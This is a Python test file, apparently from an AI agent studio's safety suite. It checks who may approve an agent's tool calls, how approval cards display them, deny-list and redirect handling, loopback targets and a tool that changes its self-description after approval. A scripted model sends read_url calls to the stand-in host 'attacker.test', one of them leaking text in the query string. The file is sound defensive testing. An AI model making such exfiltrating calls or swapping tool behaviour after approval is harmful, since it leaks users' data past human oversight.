"""Who may say yes, what they see before they do, and what a yes is worth when something has changed meanwhile."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.safety.test_injections import sent_to_program
from tests.safety.world import KEY, NOVEL, Obeying, Scene, World, perform, scene, until


def waiting(here: Scene, call: tuple[str, dict[str, Any]]) -> tuple[str, dict[str, Any]]:
    """A run that waits for a person to allow this call, and its card."""
    world = here.world
    world.provider.script = [Obeying("keeper", [], [call])]
    asked = world.owner.post(
        f"/api/canvases/{here.canvas}/ask", json={"agent": here.agent, "prompt": "Help.", "page": here.page}
    )
    run = asked.json()["run"]

    def rests() -> dict[str, Any] | None:
        found = world.owner.get(f"/api/runs/{run}").json()
        return found if found["state"] == "waiting" else None

    return run, until(rests, "the run waits")["cards"][-1]


def answer(here: Scene, token: str, run: str, call: str, allow: str = "once", **more: Any) -> Any:
    with here.world.studio.client(token) as somebody:
        return somebody.post(f"/api/runs/{run}/answer", json={"call": call, "allow": allow, **more})


def ended(here: Scene, run: str) -> dict[str, Any]:
    def over() -> dict[str, Any] | None:
        found = here.world.owner.get(f"/api/runs/{run}").json()
        return found if found["state"] in ("done", "failed", "stopped") else None

    return until(over, "the run ends")


@pytest.mark.parametrize("role", ["viewer", "commenter", "editor"])
def test_no_agent_answers_whatever_its_role(world: World, role: str) -> None:
    here = scene(world)
    visits = len(world.attacker.asked)
    run, card = waiting(here, ("read_url", {"url": f"{world.evil}/agent-{role}"}))
    made = world.owner.post(f"/api/canvases/{here.canvas}/tokens", json={"name": f"Robot {role}", "role": role})
    assert made.status_code == 201, made.text
    refused = answer(here, made.json()["token"], run, card["call"])
    assert refused.status_code == 403, refused.text
    assert answer(here, world.studio.token, run, card["call"], "no").is_success
    ended(here, run)
    assert world.attacker.asked[visits:] == []


def test_a_commenter_does_not_let_anything_leave_the_machine(world: World) -> None:
    here = scene(world)
    run, card = waiting(here, ("read_url", {"url": f"{world.evil}/commenter"}))
    assert answer(here, world.ada, run, card["call"]).status_code == 403
    assert answer(here, "", run, card["call"]).status_code == 401
    assert answer(here, world.studio.token, run, card["call"], "no").is_success
    ended(here, run)


def test_a_card_says_everything_and_everybody_sees_the_same(world: World) -> None:
    here = scene(world)
    url = f"{world.evil}/log?text=keeper+counted+the+ships+twice"
    run, card = waiting(here, ("read_url", {"url": url}))
    assert card["detail"]["arguments"]["url"] == url
    assert card["detail"]["host"] == "attacker.test"
    assert "attacker.test" in card["detail"]["will"]
    assert "“Chapter 1”" in card["detail"]["warnings"][0]
    shown = json.dumps(here.view()["chat"], ensure_ascii=False)
    assert url in shown or url in json.dumps(json.loads(shown), ensure_ascii=False).replace("\\\\", "\\")
    assert answer(here, world.studio.token, run, card["call"], "run").status_code == 422, "never for the whole run"
    assert answer(here, world.studio.token, run, card["call"], "no").is_success
    ended(here, run)


def test_arguments_that_a_person_changes_are_checked_as_the_models_are(world: World) -> None:
    here = scene(world)
    run, card = waiting(here, ("read_url", {"url": f"{world.evil}/before"}))
    visits, inside = len(world.attacker.asked), len(world.inside.visits)
    inner = f"http://127.0.0.1:{world.inner_port}/"
    assert answer(here, world.studio.token, run, card["call"], arguments={"url": inner}).is_success
    ended(here, run)
    assert world.attacker.asked[visits:] == [] and len(world.inside.visits) == inside
    run, card = waiting(here, ("read_url", {"url": f"{world.evil}/before"}))
    assert answer(here, world.studio.token, run, card["call"], arguments={"address": 3}).is_success
    ended(here, run)
    assert world.attacker.asked[visits:] == []


def test_the_owner_may_change_their_mind_between_the_question_and_the_answer(world: World) -> None:
    here = scene(world)
    run, card = waiting(here, ("read_url", {"url": f"{world.evil}/too-late"}))
    visits = len(world.attacker.asked)
    policy = world.studio.home / "tools.toml"
    policy.write_text('[hosts]\ndeny = ["attacker.test"]\n')
    try:
        assert answer(here, world.studio.token, run, card["call"]).is_success
        ended(here, run)
    finally:
        policy.unlink()
    assert world.attacker.asked[visits:] == []


def test_a_denied_host_is_not_reached_by_a_redirect_either(world: World) -> None:
    from tests.tools.site import redirect

    here = scene(world)
    world.attacker.pages["/onward"] = redirect(f"http://127.0.0.2:{world.attacker.port}/denied")
    policy = world.studio.home / "tools.toml"
    policy.write_text('[hosts]\ndeny = ["127.0.0.2"]\n')
    visits = len(world.attacker.asked)
    try:
        ran = perform(here, Obeying("keeper", [], [("read_url", {"url": f"{world.evil}/onward"})]), lambda card: "once")
    finally:
        policy.unlink()
    assert ran.steps_of("read_url")[-1]["state"] in ("refused", "failed")
    assert world.attacker.asked[visits:] == ["/onward"]


def test_a_tool_that_describes_itself_otherwise_after_it_was_approved_is_asked_for_anew(world: World) -> None:
    here, elsewhere = scene(world), scene(world)
    run, card = waiting(here, ("notes__keep", {"text": NOVEL}))
    assert card["about"]["fingerprint"]
    perform(elsewhere, Obeying("keeper", [], [("notes__change_yourself", {})]), lambda card: "once")
    lines = len(sent_to_program(world))
    world.provider.script = [Obeying("nothing", [], [])]
    assert answer(here, world.studio.token, run, card["call"]).is_success

    def asks_again() -> dict[str, Any] | None:
        found = world.owner.get(f"/api/runs/{run}").json()
        fresh = [one for one in found["cards"] if "answer" not in one]
        return fresh[0] if found["state"] == "waiting" and fresh else None

    again = until(asks_again, "it is asked for anew")
    assert "has changed" in again["about"]["warnings"][0]
    assert again["about"]["fingerprint"] != card["about"]["fingerprint"]
    assert sent_to_program(world)[lines:] == []
    assert answer(here, world.studio.token, run, again["call"], "no").is_success
    ended(here, run)
    assert sent_to_program(world)[lines:] == []


def test_another_program_is_given_no_key_and_no_variable_of_the_studios(world: World) -> None:
    here = scene(world)
    perform(here, Obeying("keeper", [], [("notes__find_note", {"words": "lamp"})]), lambda card: "once")
    for line in sent_to_program(world):
        assert KEY not in json.dumps(line) and "SAFETY_CANARY" not in line["environ"]
